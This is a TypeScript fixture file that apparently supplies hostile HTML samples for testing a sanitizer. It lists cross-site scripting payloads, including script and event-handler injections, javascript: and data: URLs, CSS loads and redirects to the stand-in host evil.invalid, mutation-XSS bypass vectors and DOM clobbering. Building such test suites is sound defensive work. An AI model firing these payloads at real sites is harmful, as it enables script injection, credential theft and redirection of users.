/** HTML of attacks, for stories. Each tries to set `__safeHtmlRan` on a window, or to load from `evil.invalid`. */
const run = 'top.__safeHtmlRan=1;parent.__safeHtmlRan=1';

export const hostileSamples: Readonly<Record<string, string>> = {
  script: `<script>${run}</script><script src="https://evil.invalid/x.js"></script>`,
  handlers: `<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">d</details><p onclick="${run}" style="animation:x" onanimationstart="${run}">p</p>`,
  links: `<a href="javascript:${run}">a</a><a href="java&#10;script:${run}">b</a><a href="data:text/html,<script>${run}</script>">c</a><a href="vbscript:x">d</a><a href="/account/keys">e</a><a href="#top">f</a>`,
  css: `<style>@import "https://evil.invalid/a.css"; body { background: url(https://evil.invalid/b.png) } p::after { content: url("//evil.invalid/c.png") }</style><p style="background:url('https://evil.invalid/d.png');b\\65havior:x">css</p><p style="background:u\\72l(https://evil.invalid/e.png)">escaped</p>`,
  forms: `<form action="https://evil.invalid/"><input name="password" autofocus onfocus="${run}"><button formaction="javascript:${run}">Send</button></form><isindex action="javascript:${run}">`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/"><link rel="stylesheet" href="https://evil.invalid/f.css"><link rel="prefetch" href="https://evil.invalid/g">`,
  embeds: `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe><object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}"><applet code="x"></applet><portal src="https://evil.invalid/"></portal>`,
  svg: `<svg onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName="x"/><a xlink:href="javascript:${run}"><text>s</text></a><foreignObject><img src=x onerror="${run}"></foreignObject><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  media: `<video src="https://evil.invalid/h.mp4" poster="https://evil.invalid/i.png" onloadstart="${run}"><source onerror="${run}"></video><audio src=x onerror="${run}"></audio><table background="https://evil.invalid/j.png"><td background="https://evil.invalid/k.png">t</td></table><img srcset="https://evil.invalid/l.png 1x">`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  mutationForm: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  mutationNoscript: `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  mutationSvgStyle: `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  mutationTemplate: `<template><s><template><s><img src=x onerror="${run}">@shafigullin</s></template></s></template>`,
  mutationTextarea: `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math><xmp><img src="</xmp><img src=x onerror=${run}>">`,
  clobbering: `<form name="body"><input name="attributes"><input name="nodeName"></form><img name="getElementById"><a id="__safeHtmlRan" name="contentDocument">x</a>`,
};
